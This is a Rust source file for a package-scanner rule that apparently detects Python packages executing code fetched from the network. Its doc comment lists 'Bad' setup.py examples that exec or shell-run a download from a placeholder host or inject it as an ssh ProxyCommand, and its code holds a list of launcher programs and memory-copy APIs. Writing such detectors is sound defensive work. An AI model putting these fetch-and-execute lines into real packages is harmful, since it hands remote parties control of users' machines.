//! ## What it detects
//!
//! Code or a command that came over the network and is executed: as it comes, read back from the file that it was put into, or copied into memory as machine code.
//!
//! ## Why it is bad
//!
//! Whoever answers decides what runs on this machine, and may answer differently each time.
//!
//! ## Innocent lookalikes
//!
//! Bootstraps of old builds, servers that load their plugins from an address, remote consoles: mostly when they are asked to, which weighs less.
//!
//! ## Bad
//!
//! ```python setup.py
//! import urllib.request
//! exec(urllib.request.urlopen('http://x.example.invalid/a').read())
//! ```
//!
//! ## Bad
//!
//! ```python setup.py
//! import subprocess, urllib.request
//! a = urllib.request.urlopen('http://x.example.invalid/').read()
//! subprocess.run(['sh', '-c', a])
//! ```
//!
//! ## Good
//!
//! ```python setup.py
//! import subprocess, urllib.request
//! a = urllib.request.urlopen('http://x.example.invalid/').read()
//! subprocess.run(['git', 'clone', a])
//! ```
//!
//! ## Bad
//!
//! ```python pkg/cli.py
//! import subprocess, urllib.request
//! a = urllib.request.urlopen('http://x.example.invalid/').read()
//! subprocess.run(['ssh', '-o', 'ProxyCommand=' + a, 'x.example.invalid'])
//! ```
//!
//! ## Good
//!
//! ```python pkg/cli.py
//! import requests, subprocess
//! machine = requests.get('http://x.example.invalid/').json()
//! subprocess.run(['ssh', f'-p{machine["port"]}', f'user@{machine["host"]}', '-o', 'BatchMode=yes'])
//! ```
//!
//! ## Good
//!
//! ```python pkg/bot.py
//! import math, urllib.request
//! def answer():
//!     sum = urllib.request.urlopen('http://x.example.invalid/').read().decode()
//!     return eval(sum, {'__builtins__': {}}, {'pi': math.pi})
//! ```
//!
//! ## Good
//!
//! ```python setup.py
//! import urllib.request
//! print(urllib.request.urlopen('http://x.example.invalid/a').read())
//! ```

use fondaco_python::{Api, Call, Constant, Taint, Value};
use fondaco_verdict::{Behaviour, Confidence, RuleId, Severity, Trigger};

use crate::contents::is_pip;
use crate::{Hits, Package, Rule};

pub(crate) const RULE: Rule = Rule {
    id: RuleId::new("network-exec"),
    title: "executes code from the network",
    severity: Severity::Critical,
    confidence: Confidence::High,
    behaviour: Some(Behaviour::IngressTransfer),
    weight: 2.6,
    check,
};

fn check(package: &Package<'_>, hits: &mut Hits) {
    for (unit, call) in package.calls().filter(|(_, call)| runs_answer(call)) {
        hits.call(unit, call, format!("{} of what the network answered", call.callee));
    }
}

/// Whether a call runs what the network answered, as code, as a command or as an interpreter's input.
pub(super) fn runs_answer(call: &Call) -> bool {
    let copies = ["ctypes.memmove", "RtlMoveMemory", "WriteProcessMemory"];
    if call.api == Some(Api::Native) && copies.iter().any(|copy| call.callee.ends_with(copy)) {
        return call.args.iter().any(|code| code.taint.has(Taint::NETWORK));
    }
    let runs = match call.api {
        // Compiling runs nothing yet; who runs the result is seen where that happens.
        Some(Api::CodeExec) => call.callee != "builtins.compile" && !is_caged(call),
        Some(Api::Shell) => !is_program_known(call),
        // A pickle is a program; between processes of one system they are sent when somebody asks.
        // YAML of this sort is for nothing else.
        Some(Api::Unpickle) => call.trigger.is_some_and(Trigger::is_unasked) || call.callee.starts_with("yaml."),
        _ => false,
    };
    let is_read = is_fed(call);
    let input = call.kwargs.iter().find(|(name, _)| is_read && name == "input").map(|(_, value)| value);
    let command = call.args.first().filter(|_| runs);
    // What was read of a file that came so; as a command the path of one is another rule's.
    let is_code = call.api == Some(Api::CodeExec);
    command.is_some_and(|code| match code.taint.has(Taint::FETCHED) {
        true => is_code,
        false => code.taint.has(Taint::NETWORK),
    })
        || input.is_some_and(|code| code.taint.has(Taint::NETWORK | Taint::FETCHED))
}

/// Whether somebody who asked for it has code evaluated without the functions that are built in, as calculators do. There
/// are ways out of that, so that it is no excuse for what nobody asked for.
fn is_caged(call: &Call) -> bool {
    let Some(Constant::Dict(names)) = call.args.get(1).and_then(|names| names.constant.as_ref()) else { return false };
    let is_nothing = |value: &Value| match &value.constant {
        Some(Constant::Dict(names)) => names.is_empty(),
        given => *given == Some(Constant::None),
    };
    call.callee == "builtins.eval"
        && !call.trigger.is_some_and(Trigger::is_unasked)
        && names.iter().any(|(name, value)| name.as_str() == Some("__builtins__") && is_nothing(value))
}

/// Whether a call starts what runs its input.
pub(super) fn is_fed(call: &Call) -> bool {
    call.api == Some(Api::Shell) && call.args.first().is_some_and(is_interpreter)
}

/// Whether the answer is a mere argument: which program runs is known, and it runs no code that it
/// is given, as in `["git", "clone", answer]`. A text goes through a shell, or may begin with the
/// answer: only a list says what is what.
fn is_program_known(call: &Call) -> bool {
    let Some(command) = call.args.first() else { return true };
    let asked = !call.trigger.is_some_and(Trigger::is_unasked);
    if let Some(items) = command.as_list() {
        let [program, ..] = items else { return true };
        let name = program.as_str().or(program.name.as_deref()).unwrap_or_default();
        return is_pip(command) || !program.taint.has(Taint::NETWORK) && (is_plain(name) || asked && is_login(name, items));
    }
    if command.constant.is_some() {
        // A name such as `r.status_code` of an answer is no code.
        return call.callee.starts_with("subprocess.");
    }
    // A list that is not known in full begins, as far as can be seen, with its first text; that is
    // enough where somebody asked for it.
    let first = command.fragments().first().map(|text| &**text).unwrap_or_default();
    asked && call.callee.starts_with("subprocess.") && !first.contains(char::is_whitespace) && is_plain(first)
}

/// Whether another machine is logged in to: what runs there runs there, but for commands that an option names.
fn is_login(program: &str, items: &[Value]) -> bool {
    let runs_here = |text: &str| ["command", "localhost", "127.0.0."].iter().any(|word| text.to_ascii_lowercase().contains(word));
    program == "ssh" && !items.iter().flat_map(Value::texts).any(runs_here)
}

/// Whether a command begins with what reads code from its input.
fn is_interpreter(command: &Value) -> bool {
    let first = match command.as_list() {
        Some([program, ..]) => program.as_str().or(program.name.as_deref()),
        _ => command.as_str().and_then(|text| text.split_whitespace().next()),
    };
    first.is_some_and(|program| !is_plain(program))
}

/// Whether a program is known and runs nothing that it is handed.
fn is_plain(program: &str) -> bool {
    let name = program.rsplit(['/', '\\']).next().unwrap_or_default().trim_end_matches(".exe");
    program.starts_with(|c: char| c.is_ascii_alphanumeric() || matches!(c, '/' | '.'))
        && !LAUNCHERS.iter().any(|launcher| name.starts_with(launcher))
}

/// Programs that run what they are told to; `python3`, `pythonw` and `sys.executable` among them.
const LAUNCHERS: [&str; 44] = [
    "python", "sys.executable", "pip", "uv", "sh", "bash", "zsh", "dash", "ksh", "busybox", "env", "xargs", "cmd", "powershell",
    "pwsh", "start", "chmod", "nohup", "sudo", "doas", "su", "wscript", "cscript", "mshta", "msiexec", "osascript", "rundll32",
    "regsvr32", "explorer", "node", "npm", "npx", "deno", "bun", "java", "wine", "perl", "ruby", "php", "lua", "tclsh", "awk",
    "ssh", "eval",
];
